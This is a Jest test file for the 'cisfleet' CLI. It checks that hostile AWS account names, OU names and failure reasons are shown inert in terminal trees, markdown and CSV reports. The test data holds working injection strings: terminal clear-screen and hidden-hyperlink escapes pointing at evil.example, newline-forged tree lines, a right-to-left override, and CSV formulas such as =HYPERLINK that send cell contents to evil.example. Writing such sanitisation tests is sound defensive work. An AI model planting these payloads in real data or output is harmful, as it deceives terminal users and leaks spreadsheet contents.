/**
 * Hostile names through the real commands against the simulator: an organization whose account and OU names
 * and stack failure reasons carry escape sequences (ESC[2J, an OSC 8 hyperlink), a newline that would forge a
 * tree line or a table row, a right-to-left override, and spreadsheet formulas. What reaches the terminal,
 * the markdown comment and the CSV file must be inert (src/safe-text.ts).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { showOrganization } from '../../src/actions/org.js';
import { report } from '../../src/actions/report.js';
import type { ReportFormat } from '../../src/report/render/index.js';
import { RecordingReporter } from '../../src/ui/reporter.js';
import { orgBuilder, startTestSimulator, type TestSimulator } from '../helpers/sim.js';
import { runCli } from '../helpers/run-cli.js';
import { demoScenario, rolloutHarness, type RolloutHarness } from './rollout-fixtures.js';
import { deployStackSet, reportScenarioFields, writeConfig } from '../report/report-sim.js';
import { fakeClock } from '../helpers/fake-clock.js';
import { systemClock } from '../../src/clock.js';

const HOME = 'us-east-1';
const CLEAR_SCREEN = '\x1b[2J';
const HIDDEN_LINK = '\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07';
const FORGED = '├─ 999999999999  forged';
const RTL_OVERRIDE = '\u202e';

const ESCAPES = '222222222222';
const NEWLINE = '333333333333';
const FORMULA = '444444444444';
const MINUS = '555555555555';
const AT = '666666666666';

const HOSTILE_OU = `Team${RTL_OVERRIDE}exe.txt\n  ${FORGED}`;

/** A raw control, escape, bidi or separator character anywhere but the line ends a format uses. */
// eslint-disable-next-line no-control-regex -- matching raw control characters is what this test is about
const RAW_UNSAFE = /[\x00-\x09\x0b-\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]/;

function forgedLines(text: string): string[] {
  return text.split(/\r?\n/).filter((line) => /^[\s|#*-]*├─ 999999999999/.test(line));
}

describe('hostile names from AWS through cisfleet org and report', () => {
  let sim: TestSimulator;
  let configPath: string;

  beforeAll(async () => {
    sim = await startTestSimulator(
      orgBuilder()
        .regions(HOME)
        .with(reportScenarioFields(HOME))
        .account(ESCAPES, {
          ou: 'Workloads',
          name: `${CLEAR_SCREEN}${HIDDEN_LINK}`,
          allRegions: { defaultSecurityGroup: 'open' },
        })
        .account(NEWLINE, {
          ou: `Workloads/${HOSTILE_OU}`,
          name: `Payments\n${FORGED}`,
          allRegions: { defaultSecurityGroup: 'open' },
        })
        .account(FORMULA, { ou: 'Workloads', name: '=HYPERLINK("https://evil.example/?"&A1,"x")' })
        .account(MINUS, { ou: 'Workloads', name: '-1+1' })
        .account(AT, { ou: 'Workloads', name: '@SUM(A1:A9)' })
        .faults({
          latencyMs: {},
          throttle: {},
          deniedAccounts: [],
          failingInstances: [{ accountId: MINUS, reason: `${CLEAR_SCREEN}denied\n${FORGED} reason ${RTL_OVERRIDE}` }],
        }),
    );
    await deployStackSet(sim, ESCAPES, [HOME]);
    configPath = writeConfig({ regions: [HOME] });
  });

  afterAll(async () => {
    await sim?.stop();
  });

  const context = () => {
    const reporter = new RecordingReporter({
      json: false,
      color: false,
      interactive: false,
      verbose: false,
      debug: false,
      progress: false,
    });
    const globals = { config: configPath, json: false, verbose: false, debug: false, yes: true, color: false };
    return { reporter, globals };
  };

  async function reportIn(format: ReportFormat): Promise<string> {
    const { reporter, globals } = context();
    await report(
      { globals, reporter, clock: fakeClock(sim.clock) },
      { drift: false, format },
      { endpoint: sim.url, credentials: sim.credentialsFor('admin') },
    );
    return reporter.stdout.join('\n');
  }

  it('org: the tree shows escapes as text and forges no line', async () => {
    const { reporter, globals } = context();
    await showOrganization(
      { globals, reporter, clock: systemClock },
      { checkAccess: false },
      { endpoint: sim.url, credentials: sim.credentialsFor('admin') },
    );
    const tree = reporter.all;
    expect(tree).toContain('\\x1b[2J\\x1b]8;;https://evil.example/\\x07click me');
    expect(tree).toContain(`Team\\u202eexe.txt\\n  ${FORGED}`);
    expect(tree).toContain(`Payments\\n${FORGED}`);
    expect(tree).not.toMatch(RAW_UNSAFE);
    expect(forgedLines(tree)).toEqual([]);
  });

  it('report --format table: names, OU paths and failure reasons stay on their line, escapes shown', async () => {
    const table = await reportIn('table');
    expect(table).toContain('\\x1b[2J');
    expect(table).toContain(`denied\\n${FORGED} reason \\u202e`);
    expect(table).not.toMatch(RAW_UNSAFE);
    expect(forgedLines(table)).toEqual([]);
  });

  it('report --format md: no raw control character, no forged row, pipes and brackets escaped', async () => {
    const markdown = await reportIn('md');
    expect(markdown).not.toMatch(RAW_UNSAFE);
    expect(forgedLines(markdown)).toEqual([]);
    expect(markdown).toContain('\\\\x1b\\[2J');
    expect(markdown).toContain('=HYPERLINK\\("https://evil.example/?"\\&A1,"x"\\)');
  });

  it('report --format csv: formulas start with a single quote, numbers stay numbers', async () => {
    const csv = await reportIn('csv');
    const lines = csv.trimEnd().split('\r\n');
    const namesOf = (id: string) =>
      new Set(
        lines.filter((l) => l.startsWith(`${id},`)).map((l) => l.slice(id.length + 1, l.indexOf(',', id.length + 2))),
      );
    expect(namesOf(MINUS)).toEqual(new Set([`"'-1+1"`]));
    expect(namesOf(AT)).toEqual(new Set([`"'@SUM(A1:A9)"`]));
    expect(csv).toContain(`${FORMULA},"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`);
    expect(csv).not.toMatch(RAW_UNSAFE);
    expect(forgedLines(csv)).toEqual([]);
    // The counts after the mode column are plain numbers: the default group of ESCAPES is open.
    const escapesRows = lines.filter((l) => l.startsWith(`${ESCAPES},`));
    expect(escapesRows.some((l) => /,(\d+),(\d+),(\d+),/.test(l) && /,[1-9]\d*,\d+,\d+,/.test(l))).toBe(true);
  });
});

describe('hostile names from AWS through cisfleet rollout', () => {
  let h: RolloutHarness;
  const FAILING = '444444444444';

  beforeAll(async () => {
    h = await rolloutHarness(
      demoScenario((scenario) => {
        scenario.faults = {
          failingInstances: [
            { accountId: FAILING, reason: `${CLEAR_SCREEN}${HIDDEN_LINK}\n  ${FORGED} ${RTL_OVERRIDE}` },
          ],
        };
      }),
    );
  });

  afterAll(async () => {
    await h?.stop();
  });

  it('the plan and the summary show a failure reason with its escapes as text, on its own line', async () => {
    const run = await h.run();
    const output = run.reporter.all;
    expect(run.outcome?.operations.flatMap((o) => o.failed).some((f) => f.account === FAILING)).toBe(true);
    expect(output).toContain(`${FAILING} us-east-1: \\x1b[2J\\x1b]8;;https://evil.example/\\x07click me`);
    expect(output).toContain(`\\n  ${FORGED} \\u202e`);
    expect(output).not.toMatch(RAW_UNSAFE);
    expect(forgedLines(output)).toEqual([]);
  });
});

describe('hostile values from accounts.yaml through the built CLI', () => {
  it('cisfleet validate quotes them with escapes shown and cut, on the stderr of a real process', () => {
    const dir = mkdtempSync(join(tmpdir(), 'cisfleet-hostile-'));
    const config = join(dir, 'accounts.yaml');
    const region = `${CLEAR_SCREEN}${HIDDEN_LINK}${'x'.repeat(200)}`;
    writeFileSync(
      config,
      `version: 1\norganization: { managementAccountId: '111111111111', homeRegion: us-east-1 }\ntargets: { organizationalUnits: [/Root/Workloads] }\nregions: [${JSON.stringify(region)}, "eu\\u202e-west-1\\n  ${FORGED}"]\n`,
    );
    const run = runCli(['validate', '--config', config]);
    expect(run.status).toBe(2);
    expect(run.stderr).toContain('"\\x1b[2J\\x1b]8;;https://evil.example/\\x07click me\\x1b]8;;\\x07xxx');
    expect(run.stderr).toContain(`… (${region.length} characters)`);
    expect(run.stderr).toContain(`eu\\u202e-west-1\\n  ${FORGED}`);
    expect(run.stderr).not.toMatch(RAW_UNSAFE);
    expect(forgedLines(run.stderr)).toEqual([]);
  });
});
